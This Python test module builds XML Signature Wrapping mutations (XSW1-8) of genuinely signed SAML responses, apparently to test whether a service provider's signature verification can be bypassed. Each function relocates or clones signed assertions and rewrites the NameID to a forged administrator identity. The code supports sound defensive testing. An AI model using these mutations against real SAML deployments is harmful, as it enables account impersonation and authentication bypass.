"""Mutations of genuinely signed responses (lxml, test code only).

Contract: every function takes the signed text (str) and returns the bytes to post. Tree
edits go through tree()/ser(); lxml keeps the signed subtrees' canonical form unless the
mutation edits them on purpose. FORGED is the identity an attacker wants to become.
"""
import base64
import copy
import hashlib
import os
import sys

from lxml import etree

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures"))
from samlgen import builder as B  # noqa: E402

NS = {"p": B.NS_P, "a": B.NS_A, "ds": B.NS_DS}
FORGED = "admin@example.com"
DS = "{%s}" % B.NS_DS


def tree(text):
    parser = etree.XMLParser(remove_blank_text=False, resolve_entities=False, huge_tree=True)
    return etree.fromstring(text.encode("utf-8"), parser)


def ser(root):
    """The same declaration xmlsec1 writes, so only the mutation differs from the base."""
    return (B.DECL.encode("utf-8") +
            etree.tostring(root, xml_declaration=False, encoding="UTF-8"))


def assertion(root):
    return root.find("a:Assertion", NS)


def sig(el):
    return el.find("ds:Signature", NS)


def forge(a, who=FORGED):
    a.find(".//a:NameID", NS).text = who
    return a


def strip_sig(el):
    s = sig(el)
    if s is not None:
        el.remove(s)
    return el


def status(root):
    return root.find("p:Status", NS)


def exc_c14n_digest(el, algo="sha256"):
    """b64(H(exc-c14n(el without its enveloped Signature))) as an attacker computes it."""
    clone = copy.deepcopy(el)
    strip_sig(clone)
    data = etree.tostring(clone, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.new(algo, data).digest()).decode()


def edit(fn):
    """Wraps fn(root) (edits in place) into a text -> bytes mutation."""
    def run(text):
        root = tree(text)
        out = fn(root)
        return ser(out if isinstance(out, etree._Element) else root)
    return run


def replace(old, new, count=1):
    """Plain text substitution on the serialized document; old must be present."""
    def run(text):
        if old not in text:
            raise AssertionError("mutation anchor not found: %r" % old)
        return text.replace(old, new, count).encode("utf-8")
    return run


def raw(fn):
    """fn(text) -> bytes, for byte-level mutations (encodings, BOMs, junk)."""
    return fn


def insert_before_status(xml_fragment):
    """Inserts a raw XML fragment (namespaces declared inside it) before samlp:Status."""
    def fn(root):
        frag = etree.fromstring(xml_fragment)
        st = status(root)
        st.addprevious(frag)
    return edit(fn)


# ---- XSW1-8 (SECURITY.md A01-A08; shapes of SAML Raider's XSWHelpers) ------------------

def xsw1(unique, keep_assertion=True):
    def fn(root):
        clone = strip_sig(copy.deepcopy(root))
        if not keep_assertion:
            clone.remove(assertion(clone))
        s = sig(root)
        root.set("ID", "_evil_response_ID")
        a = assertion(root)
        forge(a)
        if unique:
            a.set("ID", "_evil_assertion_ID")
        s.append(clone)
    return edit(fn)


def xsw2(unique, keep_assertion=True):
    def fn(root):
        clone = strip_sig(copy.deepcopy(root))
        if not keep_assertion:
            clone.remove(assertion(clone))
        s = sig(root)
        root.set("ID", "_evil_response_ID")
        a = assertion(root)
        forge(a)
        if unique:
            a.set("ID", "_evil_assertion_ID")
        s.addprevious(clone)
    return edit(fn)


def _forged_copy(a, unique, keep_sig=False):
    f = copy.deepcopy(a)
    if not keep_sig:
        strip_sig(f)
    forge(f)
    f.set("ID", "_evil_assertion_ID" if unique else a.get("ID"))
    return f


def xsw3(unique):
    def fn(root):
        a = assertion(root)
        a.addprevious(_forged_copy(a, unique))
    return edit(fn)


def xsw4(unique):
    def fn(root):
        a = assertion(root)
        f = _forged_copy(a, unique)
        a.addprevious(f)
        f.append(a)
    return edit(fn)


def xsw5(unique, keep_copy=True):
    def fn(root):
        a = assertion(root)
        pristine = strip_sig(copy.deepcopy(a))
        forge(a)
        if unique:
            a.set("ID", "_evil_assertion_ID")
        if keep_copy:
            a.addnext(pristine)
    return edit(fn)


def xsw6(unique):
    def fn(root):
        a = assertion(root)
        pristine = strip_sig(copy.deepcopy(a))
        forge(a)
        if unique:
            a.set("ID", "_evil_assertion_ID")
        sig(a).append(pristine)
    return edit(fn)


def xsw7(unique):
    def fn(root):
        a = assertion(root)
        ext = etree.Element("Extensions", nsmap={})
        ext.append(_forged_copy(a, unique))
        a.addprevious(ext)
    return edit(fn)


def xsw8(unique, with_assertion=True):
    def fn(root):
        a = assertion(root)
        obj = etree.SubElement(sig(a), DS + "Object")
        if with_assertion:
            pristine = strip_sig(copy.deepcopy(a))
            if unique:
                pristine.set("ID", "_pristine_copy_ID")
            obj.append(pristine)
            forge(a)
        else:
            etree.SubElement(obj, "Data").text = "decoy"
    return edit(fn)
